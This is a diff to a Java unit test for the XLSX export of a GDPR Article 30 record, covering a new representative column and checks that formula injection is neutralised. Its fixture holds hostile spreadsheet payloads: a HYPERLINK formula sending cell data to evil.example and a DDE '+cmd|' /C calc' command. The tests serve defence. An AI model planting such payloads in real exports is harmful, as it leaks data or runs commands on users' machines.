@@ -89,14 +89,16 @@ class Art30XlsxTest {
     @Test
     void theSeedsRecordHasAHeaderAndARowPerPurpose() throws IOException {
         Register seed = TestRegisters.seed();
-        List<List<String>> rows = cells(xlsx(seed, Language.FI), "Seloste käsittelytoimista", 11);
+        List<List<String>> rows = cells(xlsx(seed, Language.FI), "Seloste käsittelytoimista", 12);
         assertEquals(1 + seed.purposes().size(), rows.size());
-        assertEquals(List.of("Rekisteri", "Rekisterinpitäjä", "Tietosuojavastaava", "Käsittelyn tarkoitus",
+        assertEquals(List.of("Rekisteri", "Rekisterinpitäjä", "Rekisterinpitäjän edustaja", "Tietosuojavastaava",
+                "Käsittelyn tarkoitus",
                 "Oikeusperuste", "Rekisteröityjen ryhmät", "Henkilötietoryhmät", "Vastaanottajat",
                 "Siirrot kolmansiin maihin ja suojatoimet", "Säilytysaika", "Turvatoimet"), rows.get(0));
         assertEquals("Mainostakomon internetpalvelujen asiakastietorekisteri", rows.get(1).get(0));
-        assertEquals("Laskutukseen", rows.get(1).get(3));
-        assertEquals("Tietoja ei luovuteta EU:n eikä ETA:n ulkopuolelle.", rows.get(1).get(8));
+        assertEquals("", rows.get(1).get(2), "the seed has no representative: an empty cell");
+        assertEquals("Laskutukseen", rows.get(1).get(4));
+        assertEquals("Tietoja ei luovuteta EU:n eikä ETA:n ulkopuolelle.", rows.get(1).get(9));
     }
 
     /** The same hostile texts as the CSV's test: in XLSX too, a cell that would start a formula is neutralised. */
@@ -106,6 +108,7 @@ class Art30XlsxTest {
                 key: hostile
                 name: {fi: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Klikkaa\\")"}
                 controller: {name: "+cmd|' /C calc'!A0", email: a@example.fi}
+                representative: {name: "-2+3 GmbH"}
                 dataCategories:
                   - {key: contact, name: {fi: "=1+1"}}
                 purposes:
@@ -114,13 +117,14 @@ class Art30XlsxTest {
                 disclosures:
                   - {key: tax, recipient: {fi: "@Verohallinto"}, categories: [contact]}
                 """, "hostile.yaml", RegisterFormat.YAML);
-        List<List<String>> rows = cells(xlsx(register, Language.FI), "Seloste käsittelytoimista", 11);
+        List<List<String>> rows = cells(xlsx(register, Language.FI), "Seloste käsittelytoimista", 12);
         assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikkaa\")", rows.get(1).get(0));
         assertEquals("'+cmd|' /C calc'!A0; a@example.fi", rows.get(1).get(1));
-        assertEquals("'\t=1+1", rows.get(1).get(3));
-        assertEquals("'=1+1", rows.get(1).get(6));
-        assertEquals("'@Verohallinto", rows.get(1).get(7));
-        assertEquals("'\r=1+1", rows.get(2).get(3), "a carriage return survives XML");
+        assertEquals("'-2+3 GmbH", rows.get(1).get(2), "the representative's cell too");
+        assertEquals("'\t=1+1", rows.get(1).get(4));
+        assertEquals("'=1+1", rows.get(1).get(7));
+        assertEquals("'@Verohallinto", rows.get(1).get(8));
+        assertEquals("'\r=1+1", rows.get(2).get(4), "a carriage return survives XML");
         assertReadsBackAsTheTable(register, Language.FI);
     }
 
@@ -144,7 +148,7 @@ class Art30XlsxTest {
         byte[] xlsx = xlsx(TestRegisters.maximal(), Language.EN);
         String sheet = part(xlsx, "xl/worksheets/sheet1.xml");
         assertTrue(sheet.contains("ySplit=\"1\"") && sheet.contains("state=\"frozen\""), "frozen header");
-        assertTrue(sheet.contains("<autoFilter ref=\"A1:K9\">"), "a filter on the header, over every row");
+        assertTrue(sheet.contains("<autoFilter ref=\"A1:L9\">"), "a filter on the header, over every row");
         String styles = part(xlsx, "xl/styles.xml");
         assertTrue(styles.contains("<b/>") || styles.contains("<b val=\"true\"/>"), "a bold font");
         assertTrue(styles.contains("DCE6F1"), "the header's fill");
